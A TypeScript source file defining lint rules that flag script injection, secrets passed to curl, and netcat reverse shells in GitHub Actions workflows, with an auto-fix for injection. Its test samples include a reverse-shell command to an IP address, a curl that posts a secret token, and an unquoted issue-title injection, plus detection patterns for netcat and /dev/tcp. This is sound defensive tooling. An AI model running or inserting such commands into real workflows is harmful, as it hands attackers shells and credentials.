/** Text of outsiders, secrets and connections in what a step runs. */
import type { FixOperation } from "../../model/patch.ts";
import type { Rule } from "../rule.ts";
import { rule } from "../rule.ts";
import { fail, notApplicable, pass, type Verdict } from "../verdict.ts";
import type { View } from "../view.ts";
import { workflow } from "./example.ts";
import { expressionsIn, outsiderText, type Step, stepsOf, WORKFLOWS } from "./jobs.ts";

/** What a step executes: its shell script, or the script given to actions/github-script. */
function scriptOf(
  step: Step,
): { readonly path: string; readonly text: string; readonly kind: "run" | "script" } | undefined {
  const run = step.block.get("run");
  if (run.kind === "value") return { path: run.path, text: String(run.value), kind: "run" };
  const uses = step.block.text("uses") ?? "";
  const script = step.block.get("with.script");
  if (/^actions\/github-script@/i.test(uses) && script.kind === "value")
    return { path: script.path, text: String(script.value), kind: "script" };
  return undefined;
}

/** Steps that were given a name, and hand outsiders' text on through an output or an environment variable. */
function carriedText(view: View, expression: string, step: Step): string | undefined {
  const variable = /^\s*env\.([A-Za-z_]\w*)\s*$/.exec(expression)?.[1];
  if (!variable) return undefined;
  for (const holder of [step.block, step.job, view]) {
    const value = holder?.text(`env.${variable}`);
    if (value === undefined) continue;
    return expressionsIn(value)
      .map(outsiderText)
      .find((path) => path !== undefined);
  }
  return undefined;
}

interface Injection {
  readonly step: Step;
  readonly path: string;
  readonly text: string;
  readonly kind: "run" | "script";
  readonly expression: string;
  readonly source: string;
}

function injections(view: View): readonly Injection[] {
  return stepsOf(view).flatMap((step): readonly Injection[] => {
    const script = scriptOf(step);
    if (!script) return [];
    return expressionsIn(script.text).flatMap((expression) => {
      const source = outsiderText(expression) ?? carriedText(view, expression, step);
      return source === undefined ? [] : [{ step, ...script, expression, source }];
    });
  });
}

/** Moves each expression into the step's environment and names the variable, quoted, in the script. */
function moveToEnvironment(view: View): readonly FixOperation[] | string {
  const operations: FixOperation[] = [];
  const scripts = new Map<string, string>();
  for (const { step, path, text, kind, expression, source } of injections(view)) {
    if (kind === "script") return "JavaScript has to read the value from process.env: rewrite the script by hand.";
    if (/^\s*env\./.test(expression)) return "The value comes from env: use the shell variable, quoted, by hand.";
    if (!isPosixShell(step)) return "The step does not run in a POSIX shell: rewrite the script by hand.";
    const name = source
      .replace(/^github\.(?:event\.)?/, "")
      .replace(/\W+/g, "_")
      .toUpperCase();
    const rewritten = withVariable(scripts.get(path) ?? text, expression, name);
    if (rewritten === undefined)
      return "The expression stands where no shell variable is read: rewrite the script by hand.";
    scripts.set(path, rewritten);
    operations.push({ op: "set", path: `${step.block.path}.env.${name}`, value: `\${{ ${expression} }}` });
  }
  for (const [path, script] of scripts) operations.push({ op: "set", path, value: script });
  return operations.length > 0 ? operations : "No expression was found to move.";
}

function isPosixShell({ block, job }: Step): boolean {
  const shell = block.text("shell") ?? job?.text("defaults.run.shell");
  if (shell !== undefined) return /^(?:ba|da|z)?sh\b/.test(shell);
  return !/windows/i.test(JSON.stringify(job?.get("runs-on") ?? ""));
}

/** The script with each such expression as a variable, quoted as its place needs; undefined inside single quotes and here-documents. */
function withVariable(script: string, expression: string, name: string): string | undefined {
  const hole = new RegExp(`\\$\\{\\{\\s*${expression.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}\\s*\\}\\}`, "g");
  if (/<<-?\s*['"]?[A-Za-z_]/.test(script)) return undefined;
  let out = "";
  let end = 0;
  for (const match of script.matchAll(hole)) {
    const before = script.slice(0, match.index);
    const quote = openQuote(before);
    if (quote === "'") return undefined;
    out += script.slice(end, match.index) + (quote === '"' ? `\${${name}}` : `"$${name}"`);
    end = match.index + match[0].length;
  }
  return out + script.slice(end);
}

/** The quote that is open at the end of a piece of shell. */
function openQuote(script: string): string | undefined {
  let open: string | undefined;
  for (let at = 0; at < script.length; at++) {
    const char = script[at];
    if (char === "\\" && open !== "'") at++;
    else if (char === open) open = undefined;
    else if (open === undefined && (char === "'" || char === '"')) open = char;
  }
  return open;
}

const lineRule =
  (find: (line: string) => boolean, message: string) =>
  (view: View): Verdict => {
    const scripts = stepsOf(view).flatMap((step) => scriptOf(step) ?? []);
    if (scripts.length === 0) return notApplicable;
    const found = scripts.find(({ text }) =>
      text
        .replace(/\\\r?\n\s*/g, " ")
        .split(/\r?\n/)
        .some((line) => !/^\s*#/.test(line) && find(line)),
    );
    return found ? fail(found.path, message) : pass();
  };

const IP = /(?:\d{1,3}\.){3}\d{1,3}/;

export const injection: readonly Rule[] = [
  rule({
    id: "workflow-script-injection",
    aliases: ["CKV_GHA_2"],
    title: "Script contains text that outsiders write",
    severity: "critical",
    category: "security",
    on: WORKFLOWS,
    why: "An expression is put into the script before the shell reads it. Whoever opens an issue with a title of shell commands has them run, with the workflow's token.",
    remedy: "Give the value to the step through env, and use it as a quoted shell variable.",
    references: [
      "https://docs.github.com/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions",
    ],
    check: (view) => {
      const [first] = injections(view);
      if (first) return fail(first.path, `The script contains ${first.source}, which an outsider writes.`);
      return stepsOf(view).some((step) => scriptOf(step)) ? pass() : notApplicable;
    },
    fix: { risk: "in-place", edit: moveToEnvironment },
    bad: workflow({ on: "issues", steps: '- run: echo "${{ github.event.issue.title }}"' }),
    good: workflow({ on: "issues", steps: '- run: echo "$TITLE"\n  env:\n    TITLE: ${{ github.event.issue.title }}' }),
  }),
  rule({
    id: "workflow-curl-secret",
    aliases: ["CKV_GHA_3"],
    title: "curl sends a secret",
    severity: "medium",
    category: "security",
    on: WORKFLOWS,
    why: "A secret on a command line is seen by every process, and sent wherever the address leads. An attacker who can change one word has it.",
    remedy: "Pass the secret through env to an action or tool that keeps it off the command line.",
    check: lineRule((line) => /\bcurl\b/.test(line) && /secret/i.test(line), "curl is given a secret."),
    bad: workflow({ steps: '- run: curl -d "t=${{ secrets.TOKEN }}" https://example.com' }),
    good: workflow({ steps: "- run: curl https://example.com" }),
  }),
  rule({
    id: "workflow-reverse-shell",
    aliases: ["CKV_GHA_4"],
    title: "netcat connects to an address",
    severity: "high",
    category: "security",
    on: WORKFLOWS,
    why: "netcat with an IP address is how a shell is handed to an attacker. A build has no use for it.",
    remedy: "Remove the command, and look at who added it.",
    check: lineRule(
      (line) =>
        new RegExp(`(?:^|[\\s;&|(/])(?:nc|ncat|netcat)\\s[^;&|]{0,300}?${IP.source}`).test(line) ||
        /\/dev\/(?:tcp|udp)\/\d/.test(line),
      "The script opens a connection to an IP address.",
    ),
    bad: workflow({ steps: "- run: nc -e /bin/sh 203.0.113.7 4444" }),
    good: workflow({ steps: "- run: npm ci" }),
  }),
];
